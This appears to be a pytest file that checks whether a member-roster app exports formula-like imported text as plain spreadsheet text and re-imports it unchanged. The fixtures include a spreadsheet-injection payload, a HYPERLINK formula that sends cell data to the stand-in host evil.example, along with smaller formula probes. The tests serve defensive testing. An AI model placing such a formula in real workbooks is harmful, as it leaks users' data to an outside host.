"""Imported text that looks like a formula is exported as text: no live formula in any workbook."""

from __future__ import annotations

import csv
import zipfile
from collections.abc import Callable
from pathlib import Path

from openpyxl import load_workbook

from branchdesk.core.actor import Actor
from branchdesk.core.services import Services

LINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
TEXTS = {"note": LINK, "address": "+86 某某路 1 号", "job": "@SUM(1+1)"}


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as book:
        return "".join(book.read(n).decode() for n in book.namelist()
                       if n.startswith("xl/worksheets/"))


def test_formula_like_texts_are_exported_as_plain_text_and_import_back(
    services: Services, clerk: Actor, add_member: Callable[..., int], tmp_path: Path
) -> None:
    member_id = add_member("张三", **TEXTS)
    target = tmp_path / "名册.xlsx"
    assert services.member_export.export(target) == 1

    assert "<f>" not in sheet_xml(target)
    sheet = load_workbook(target).active
    headers = [c.value for c in sheet[1]]
    for key, header in (("note", "备注"), ("address", "家庭住址"), ("job", "工作岗位")):
        cell = sheet.cell(2, headers.index(header) + 1)
        assert cell.data_type == "s" and cell.value == TEXTS[key]
        assert cell.quotePrefix  # Excel keeps it text when the clerk edits the cell

    preview = services.member_import.preview(target, update=True)
    assert [r.valid for r in preview.rows] == [True]
    assert preview.rows[0].cells["备注"] == LINK
    services.member_import.import_preview(clerk, preview)
    data = services.members.get(member_id).data
    assert (data.note, data.address, data.job) == (LINK, TEXTS["address"], TEXTS["job"])


def test_the_problem_list_echoes_formula_like_cells_as_text(
    services: Services, tmp_path: Path
) -> None:
    source = tmp_path / "有公式.csv"  # a CSV holds the formula's text, as typed
    with source.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["姓名", "公民身份号码", "人员类别", "所在党支部", "备注"])
        writer.writerow([LINK, "110105198005010131", "正式党员", "第一党支部", "-1+2"])
    preview = services.member_import.preview(source)
    assert preview.invalid_rows
    report = tmp_path / "问题清单.xlsx"
    services.member_import.write_report(preview, report)
    assert "<f>" not in sheet_xml(report)
    row = [c for c in load_workbook(report).active[2]]
    assert (row[0].data_type, row[0].value) == ("s", LINK)
    assert (row[4].data_type, row[4].value) == ("s", "-1+2")
